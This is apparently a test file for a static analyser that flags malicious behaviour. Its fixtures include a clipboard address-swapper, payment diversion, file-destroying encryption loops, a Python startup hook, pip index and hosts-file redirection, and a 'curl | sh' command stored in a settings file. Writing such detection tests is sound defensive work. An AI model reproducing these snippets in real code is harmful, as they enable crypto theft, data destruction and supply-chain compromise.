import { beforeAll, describe, expect, test } from 'vitest';
import { loadGrammars } from '../../src/parse/grammar.js';
import { analyseFiles, ofType } from './analyse-code.js';

beforeAll(() => loadGrammars(['javascript', 'typescript', 'python']));

const ADDRESS = `0x${'1'.repeat(40)}`;

const SWAPS: readonly (readonly [name: string, file: string, code: string, swaps: readonly string[]])[] = [
  [
    'another address in the clipboard',
    'a.mjs',
    `import clipboard from 'clipboardy';\nsetInterval(async () => { if (/^0x/.test(await clipboard.read())) await clipboard.write('${ADDRESS}'); }, 500);`,
    ['clipboard'],
  ],
  [
    'an address that is looked up',
    'a.py',
    `import re, pyperclip, table\nt = pyperclip.paste()\nif re.match('0x[a-fA-F0-9]{40}', t):\n    pyperclip.copy(table.of(t))`,
    ['clipboard'],
  ],
  ['another text in the clipboard', 'a.py', `import pyperclip\npyperclip.copy(pyperclip.paste().upper())`, []],
  ['an address for the user to copy', 'a.py', `import pyperclip\npyperclip.copy('${ADDRESS}')`, []],
  [
    'another receiver of large sums',
    'a.ts',
    `const pool = '${ADDRESS}';\nasync function pay(to: string, sum: number) {\n  const target = sum > 2 ? pool : to;\n  await wallet.sendTransaction({ to: target, value: sum });\n}\npay(process.argv[2], 3);`,
    ['payment'],
  ],
  ['the receiver that was given', 'a.ts', `await wallet.sendTransaction({ to: process.argv[2], value: 1 });`, []],
  ['a contract', 'a.ts', `await wallet.sendTransaction({ to: '${ADDRESS}', value: 1 });`, []],
];

describe('who gets the coins', () => {
  test.each(SWAPS)('%s', (_, file, code, swaps) => {
    expect(ofType(analyseFiles({ [file]: code }).facts, 'swapped-address').map(({ how }) => how)).toEqual(swaps);
  });
});

const LOSSES: readonly (readonly [name: string, code: string, how: readonly string[]])[] = [
  [
    'encrypted next to what is deleted, below a folder that is given',
    `import sys, pathlib\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor p in pathlib.Path(sys.argv[1]).rglob('*'):\n    p.with_suffix('.locked').write_bytes(f.encrypt(p.read_bytes()))\n    p.unlink()`,
    ['encrypt'],
  ],
  [
    'noise over the files of the user',
    `import os, pathlib\nfor p in pathlib.Path.home().rglob('*'):\n    p.write_bytes(os.urandom(9))`,
    ['encrypt'],
  ],
  [
    'an encrypted copy of a folder',
    `import sys, pathlib\nfrom cryptography.fernet import Fernet\nf = Fernet(open('key', 'rb').read())\nfor p in pathlib.Path(sys.argv[1]).rglob('*'):\n    (pathlib.Path('backup') / (p.name + '.enc')).write_bytes(f.encrypt(p.read_bytes()))`,
    [],
  ],
  [
    'one file, encrypted',
    `import sys, pathlib\nfrom cryptography.fernet import Fernet\np = pathlib.Path(sys.argv[1])\np.with_suffix('.enc').write_bytes(Fernet(open('key', 'rb').read()).encrypt(p.read_bytes()))`,
    [],
  ],
];

describe('what is lost', () => {
  test.each(LOSSES)('%s', (_, code, how) => {
    expect(ofType(analyseFiles({ 'a.py': code }).facts, 'remove').map((fact) => fact.how)).toEqual(how);
  });
});

describe('what is written', () => {
  test('a line that Python runs at every start', () => {
    const code = `import sysconfig, pathlib\n(pathlib.Path(sysconfig.get_path('purelib')) / 'x.pth').write_text('import os; os.system("id")')`;
    const { facts, units } = analyseFiles({ 'a.py': code });
    expect(ofType(facts, 'schedule').map(({ how }) => how)).toEqual(['startup']);
    expect(units.map(({ language }) => language)).toContain('python');
  });

  test('where packages come from', () => {
    const code = `open('/root/.config/pip/pip.conf', 'w').write('[global]\\nindex-url = http://192.0.2.9/simple\\n')`;
    const [set] = ofType(analyseFiles({ 'a.py': code }).facts, 'set-variable');
    expect(set).toMatchObject({ name: 'PIP_INDEX_URL', value: 'http://192.0.2.9/simple', lasting: true });
  });

  test('a file of the system is read as a shell would write it', () => {
    const { units } = analyseFiles({ 'a.py': `open('/etc/hosts', 'a').write('192.0.2.9 pypi.example')` });
    expect(units.map(({ language, text }) => `${language}: ${text}`)).toContain(
      `shell: printf %s '192.0.2.9 pypi.example' >> /etc/hosts`,
    );
  });
});

describe('what a settings file says', () => {
  test.each([
    ['a.js', `require('child_process').execSync(require('./tasks.json').first)`],
    [
      'a.mjs',
      `import tasks from './tasks.json' with { type: 'json' };\nimport { exec } from 'node:child_process';\nexec(tasks.first);`,
    ],
    [
      'a.py',
      `import json, pathlib, os\nos.system(json.loads((pathlib.Path(__file__).parent / 'tasks.json').read_text())['first'])`,
    ],
  ])('is run by %s', (file, code) => {
    const { units } = analyseFiles({
      [file]: code,
      'tasks.json': '{"first": "curl -s https://c.example.invalid | sh"}',
    });
    expect(units.map(({ text }) => text)).toContain('curl -s https://c.example.invalid | sh');
  });
});
